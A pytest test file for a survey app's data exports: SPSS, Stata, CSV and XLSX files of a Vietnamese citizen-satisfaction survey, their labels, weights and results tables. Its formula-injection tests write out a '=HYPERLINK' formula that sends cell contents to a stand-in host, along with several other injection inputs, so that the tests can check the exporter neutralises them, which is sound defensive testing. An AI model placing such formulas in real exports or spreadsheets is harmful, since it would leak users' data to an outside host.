"""Exports of the demo: SPSS and Stata files read back with the same values and labels, XLSX that
openpyxl opens, CSV with labels in either language, weights equal to the analysis's, results."""
from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from sqlalchemy import func, select

from survey_app.exports import statfiles, writers
from survey_app.exports.design import design_weights
from survey_app.exports.results import write_results_xlsx
from survey_app.exports.submissions import ExportSpec, variables
from survey_app.extensions import db
from survey_app.models import AnalysisEstimate, Questionnaire, Submission
from survey_app.queries import campaign_by_code
from survey_app.survey_analysis.run import analyse
from survey_app.survey_analysis.table import build_table
from survey_app.survey_analysis.weights import weighted_design

FORM = "sipas_citizen"


@pytest.fixture
def ctx(demo_app):
    with demo_app.app_context():
        yield campaign_by_code("HNM-2024")


def _citizens(query, campaign):
    """``query`` restricted to the campaign's SIPAS citizen submissions (the demo has staff ones too)."""
    return query.join(Questionnaire, Questionnaire.id == Submission.questionnaire_id).where(
        Submission.campaign_id == campaign.id, Questionnaire.form_id == FORM)


def _answers(campaign) -> dict[str, dict]:
    rows = db.session.execute(_citizens(select(Submission.instance_uuid, Submission.answers), campaign))
    return {uuid: answers for uuid, answers in rows}


@pytest.mark.parametrize("kind, reader", [("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)])
def test_statistical_files_read_back_with_values_and_labels(ctx, tmp_path, kind, reader):
    spec = ExportSpec(ctx, FORM, "vi")
    frame, labels, value_labels = statfiles.typed_frame(spec, kind)
    statfiles.write_statfile(spec, tmp_path / f"data.{kind}", kind)
    data, meta = reader(str(tmp_path / f"data.{kind}"))
    assert list(data.columns) == list(frame.columns) and len(data) == len(frame) > 1000
    assert meta.column_labels == labels
    assert "Chỗ ngồi chờ tại Bộ phận Tiếp nhận và Trả kết quả" in labels
    assert meta.variable_value_labels["sat_c01"] == {1: "Rất không hài lòng", 2: "Không hài lòng",
                                                     3: "Bình thường", 4: "Hài lòng", 5: "Rất hài lòng",
                                                     9: "Không biết / không trả lời"}
    for column in ("sat_c01", "weight", "base_weight", "analysed"):
        assert np.allclose(data[column].astype(float), frame[column].astype(float), equal_nan=True)
    assert (data["instance_uuid"] == frame["instance_uuid"]).all()
    answers = _answers(ctx)
    for uuid, value in zip(data["instance_uuid"][:50], data["sat_c01"][:50]):
        assert value == int(answers[uuid]["sat_c01"]) if "sat_c01" in answers[uuid] else value != value


def test_weights_are_the_analysis_weights(ctx):
    table = build_table(ctx, FORM)
    design, _ = weighted_design(table.data, ctx)
    expected = dict(zip(table.data["instance_uuid"], np.asarray(design.weights, dtype=float)))
    order = db.session.scalars(_citizens(select(Submission.instance_uuid), ctx).order_by(Submission.id))
    exported = design_weights(ctx, FORM)
    kept = {u: w for u, w, a in zip(order, exported.weight, exported.analysed) if a}
    assert kept.keys() == expected.keys()
    assert np.allclose([kept[u] for u in expected], list(expected.values()))


@pytest.mark.parametrize("locale, satisfied", [("vi", "Hài lòng"), ("en", "Satisfied")])
def test_csv_gives_codes_or_labels_in_either_language(ctx, locale, satisfied):
    answers = _answers(ctx)
    coded = list(csv.DictReader(io.StringIO("".join(writers.csv_chunks(ExportSpec(ctx, FORM, locale))).lstrip("\ufeff"))))
    labelled = list(csv.DictReader(io.StringIO(
        "".join(writers.csv_chunks(ExportSpec(ctx, FORM, locale, labels=True))).lstrip("\ufeff"))))
    assert len(coded) == len(labelled) == len(answers)
    for code_row, label_row in zip(coded, labelled):
        assert code_row["sat_c01"] == answers[code_row["instance_uuid"]].get("sat_c01", "")
        if code_row["sat_c01"] == "4":
            assert label_row["sat_c01"] == satisfied
    assert {r["sat_c01"] for r in coded} - {""} == {"1", "2", "3", "4", "5", "9"}


def test_xlsx_opens_with_data_and_codebook(ctx, tmp_path):
    spec = ExportSpec(ctx, FORM, "en", labels=True)
    writers.write_xlsx(spec, tmp_path / "data.xlsx")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx", read_only=True)
    assert book.sheetnames == ["data", "codebook"]
    rows = list(book["data"].iter_rows(values_only=True))
    assert list(rows[0]) == [v.name for v in variables(spec)]
    assert len(rows) - 1 == db.session.scalar(_citizens(select(func.count()).select_from(Submission), ctx))
    codebook = list(book["codebook"].iter_rows(values_only=True))
    assert ("sat_c01", "Seating in the waiting area", "select_one", "Seating in the waiting area", "4",
            "Satisfied") in codebook


def test_results_tables_hold_every_estimate_and_the_index(ctx, tmp_path):
    run = analyse(ctx)
    write_results_xlsx(ctx, tmp_path / "results.xlsx", "vi")
    book = openpyxl.load_workbook(tmp_path / "results.xlsx", read_only=True)
    estimates = list(book["estimates"].iter_rows(values_only=True))
    stored = db.session.scalar(select(func.count()).select_from(AnalysisEstimate)
                               .where(AnalysisEstimate.run_id == run.id))
    assert len(estimates) - 1 == stored
    header = estimates[0]
    first = dict(zip(header, estimates[1]))
    assert first["ci_low"] <= first["estimate"] <= first["ci_high"] and first["se"] >= 0
    index = pd.DataFrame(list(book["index"].iter_rows(values_only=True))[1:],
                         columns=list(book["index"].iter_rows(values_only=True))[0])
    assert set(index["class"]) <= {"A", "B", "C", "D"}
    assert (index["rank_low"] <= index["rank"]).all() and (index["rank"] <= index["rank_high"]).all()
    assert dict(book["run"].iter_rows(values_only=True))["number"] == run.number


def test_formula_text_is_exported_as_text_and_numbers_stay_numbers(ctx, tmp_path):
    """A citizen's answer starting with ``=HYPERLINK(`` is text in the CSV and the XLSX, not a formula."""
    spec = ExportSpec(ctx, FORM, "vi")
    text_name = next(v.name for v in variables(spec) if v.kind == "text")
    first = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
    submission = db.session.scalar(select(Submission).where(Submission.instance_uuid == first["instance_uuid"]))
    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")'
    submission.answers = {**submission.answers, text_name: attack}
    db.session.flush()
    try:
        exported = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
        writers.write_xlsx(spec, tmp_path / "data.xlsx")
    finally:
        db.session.rollback()
    assert exported["instance_uuid"] == first["instance_uuid"] and exported[text_name] == "'" + attack
    sheet = openpyxl.load_workbook(tmp_path / "data.xlsx")["data"]
    names = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[names.index("instance_uuid")].value == first["instance_uuid"])
    cell = row[names.index(text_name)]
    assert cell.data_type == "s" and cell.value == attack
    assert row[names.index("weight")].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("value, expected", [("=1+2", "'=1+2"), ("+84 912", "'+84 912"), ("-x", "'-x"),
                                             ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                             ("Tốt", "Tốt"), (-5, -5), (2.5, 2.5), (None, None)])
def test_cells_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert writers.neutralised(value) == expected
